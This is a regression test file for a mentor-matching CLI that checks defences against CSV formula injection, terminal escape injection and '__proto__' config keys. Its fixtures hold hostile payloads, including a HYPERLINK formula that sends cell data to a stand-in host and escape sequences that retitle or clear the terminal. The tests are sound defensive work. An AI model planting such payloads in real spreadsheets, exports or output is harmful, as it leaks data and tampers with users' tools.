/**
 * Issue 12, security (items 1–3), reproduced as the issue gives them through the built
 * CLI (`node dist/cli.js`) and the library: no live spreadsheet formula in `matches.csv`,
 * no terminal escape from the data, no `__proto__` column or config key silently
 * dropped. Thorough cases: test/cli/hostile-output.test.ts, test/io/csv/write-matches,
 * test/io/csv/parse-cohort.hostile.test.ts, test/match/hostile-config.test.ts.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { EXIT } from '../../src/cli/exit-codes.js';
import { escapeControlChars } from '../../src/cli/terminal-text.js';
import { parseCohortCsv } from '../../src/io/csv/parse-cohort.js';
import { matchesToCsv } from '../../src/io/csv/write-matches.js';
import type { MatchConfig } from '../../src/match/config.js';
import { match } from '../../src/match/match.js';
import type { ConfigError } from '../../src/errors.js';
import { expectMatchError } from '../_helpers/expect-error.js';
import { RAW_CONTROL, STACK_TRACE, sandbox, type Sandbox } from '../_helpers/cli-sandbox.js';

let box: Sandbox;
beforeAll(() => {
  box = sandbox();
});
afterAll(() => box.remove());

type Row = Record<string, string>;
const rowsOf = (text: string): Row[] => parse(text, { columns: true }) as Row[];

describe('attack 1: CSV formula injection — `m1,"=HYPERLINK(""http://x/?""&A1,""x"")",mentor,g` comes out as a live formula', () => {
  // The issue's two rows (the fourth column is a goal they share; a capacity so that every
  // mentee is paired), plus the leading tab and CR that are trimmed on input "so they
  // arrive as = too", and a leading minus.
  const COHORT = [
    'id,name,role,goals,capacity',
    'm1,"=HYPERLINK(""http://x/?""&A1,""x"")",mentor,g,4',
    'e1,@SUM(1+1),mentee,g,',
    'e2,"\t=1+1",mentee,g,',
    'e3,"\r+1",mentee,g,',
    '-e4,-2+3,mentee,g,',
  ].join('\n');

  it('match --out neutralises every text cell starting with = + - @ (a leading quote); scores stay numbers', () => {
    box.file('formulas.csv', COHORT);
    const r = box.cli(['match', 'formulas.csv', '--mode', 'capacity', '--out', 'f.csv', '-q']);
    expect(r.code, r.err).toBe(EXIT.ok);
    const rows = rowsOf(box.read('f.csv'));
    expect(rows.map((x) => x.status)).toEqual(['pair', 'pair', 'pair', 'pair']);
    const pair = rows.find((x) => x.mentee_id === 'e1')!;
    expect(pair).toMatchObject({ mentee_id: 'e1', mentee_name: "'@SUM(1+1)", mentor_id: 'm1', mentor_name: '\'=HYPERLINK("http://x/?"&A1,"x")', score: '100' });
    expect(new Map(rows.map((x) => [x.mentee_id, x.mentee_name]))).toEqual(
      new Map([
        ['e1', "'@SUM(1+1)"],
        ['e2', "'=1+1"],
        ['e3', "'+1"],
        ["'-e4", "'-2+3"],
      ]),
    );
    for (const x of rows) for (const v of Object.values(x)) expect(v).not.toMatch(/^[=+\-@\t\r]/u);
  });

  it('--no-escape-formulas (documented opt-out) writes the cells as they are', () => {
    box.file('formulas.csv', COHORT);
    expect(box.cli(['match', 'formulas.csv', '--mode', 'capacity', '--out', 'raw.csv', '-q', '--no-escape-formulas']).code).toBe(EXIT.ok);
    expect(rowsOf(box.read('raw.csv')).find((x) => x.mentee_id === 'e1')).toMatchObject({ mentee_name: '@SUM(1+1)', mentor_name: '=HYPERLINK("http://x/?"&A1,"x")' });
  });

  it('the library: matchesToCsv escapes by default, { escapeFormulas: false } turns it off', () => {
    const { participants } = parseCohortCsv(COHORT);
    const result = match(participants, { mode: 'capacity' });
    expect(rowsOf(matchesToCsv(result, participants)).find((x) => x.mentee_id === 'e1')!.mentee_name).toBe("'@SUM(1+1)");
    expect(rowsOf(matchesToCsv(result, participants, { escapeFormulas: false })).find((x) => x.mentee_id === 'e1')!.mentee_name).toBe('@SUM(1+1)');
  });
});

describe('attack 2: terminal escape injection — names and ids printed raw by `recommend` and the issue lines (`\\e]0;PWNED\\a`, `\\e[2J`)', () => {
  const COHORT = [
    'id,name,role,time_zone,goals',
    'm1,"Ana\u001b]0;PWNED\u0007",mentor,UTC,g',
    'e1,"Bo\u001b[2J",mentee,UTC,g',
    'e\u001b[31m2,Cy,mentee,Mars/\u001b[2JBase,g',
  ].join('\n');

  it('recommend, explain, validate and the issue lines of match show them as visible escapes, never raw', () => {
    box.file('esc.csv', COHORT);
    const runs = {
      recommend: box.cli(['recommend', 'esc.csv', '--for', 'm1']),
      explain: box.cli(['explain', 'esc.csv', '--pair', 'e1,m1']),
      validate: box.cli(['validate', 'esc.csv']),
      match: box.cli(['match', 'esc.csv', '--no-audits']),
    };
    for (const [name, r] of Object.entries(runs)) {
      expect(r.out + r.err, name).not.toMatch(RAW_CONTROL);
      expect(r.err, name).not.toMatch(STACK_TRACE);
    }
    expect(runs.recommend.out).toContain('Top 1 for Ana\\u001b]0;PWNED\\u0007 (m1):');
    expect(runs.recommend.out).toContain('Bo\\u001b[2J');
    expect(runs.explain.out).toMatch(/^Bo\\u001b\[2J \(e1\) and Ana\\u001b\]0;PWNED\\u0007 \(m1\)/);
    // The issue line names the row, the column and the participant, escaped.
    expect(runs.validate.out).toContain("row 4, column 'time_zone' (participant e\\u001b[31m2)");
    expect(runs.match.err).toContain("row 4, column 'time_zone' (participant e\\u001b[31m2)");
  });

  it('escapeControlChars (the one filter every printed line goes through)', () => {
    expect(escapeControlChars('\u001b]0;PWNED\u0007 \u001b[2J')).toBe('\\u001b]0;PWNED\\u0007 \\u001b[2J');
  });
});

describe('attack 3: `attr:__proto__` / `personality:__proto__` columns silently dropped; `{"__proto__": …}` in a config silently accepted', () => {
  it('validate: personality:__proto__ is an issue on its row and column (exit 3), not a silent drop', () => {
    box.file('proto.csv', 'id,name,role,attr:__proto__,personality:__proto__\nm1,Ana,mentor,x,50\ne1,Bo,mentee,y,\n');
    const r = box.cli(['validate', 'proto.csv']);
    expect(r.code).toBe(EXIT.invalidInput);
    expect(r.out).toMatch(/row 2, column 'personality:__proto__' \(participant m1\): .*found "__proto__" \[unknown_trait\]/);
  });

  it('the library: attr:__proto__ is kept as an attribute (named proto, as tags are normalised)', () => {
    const r = parseCohortCsv('id,role,attr:__proto__\nm1,mentor,x\n');
    expect(r.issues).toEqual([]);
    expect({ ...r.participants[0]!.attributes }).toEqual({ proto: 'x' });
  });

  it('match --config with "__proto__" → exit 4 naming the key, as for any unknown key', () => {
    box.file('cohort.csv', 'id,role,goals\nm1,mentor,g\ne1,mentee,g\n');
    const proto = box.cli(['match', 'cohort.csv', '--config', box.file('proto.json', '{"__proto__": {"mode": "peer"}}')]);
    expect(proto.code).toBe(EXIT.invalidConfig);
    expect(proto.err).toContain('__proto__: unknown key "__proto__"');
    const other = box.cli(['match', 'cohort.csv', '--config', box.file('other.json', '{"bogus": {"mode": "peer"}}')]);
    expect(other.code).toBe(EXIT.invalidConfig);
    expect(other.err).toContain('bogus');
  });

  it('the library: match(people, JSON.parse(\'{"__proto__": …}\')) → ConfigError naming __proto__', () => {
    const { participants } = parseCohortCsv('id,role,goals\nm1,mentor,g\ne1,mentee,g\n');
    const e = expectMatchError(() => match(participants, JSON.parse('{"__proto__": {"mode": "peer"}}') as MatchConfig), 'INVALID_CONFIG') as ConfigError;
    expect(e.issues.map((i) => i.message).join('\n')).toContain('__proto__');
  });
});
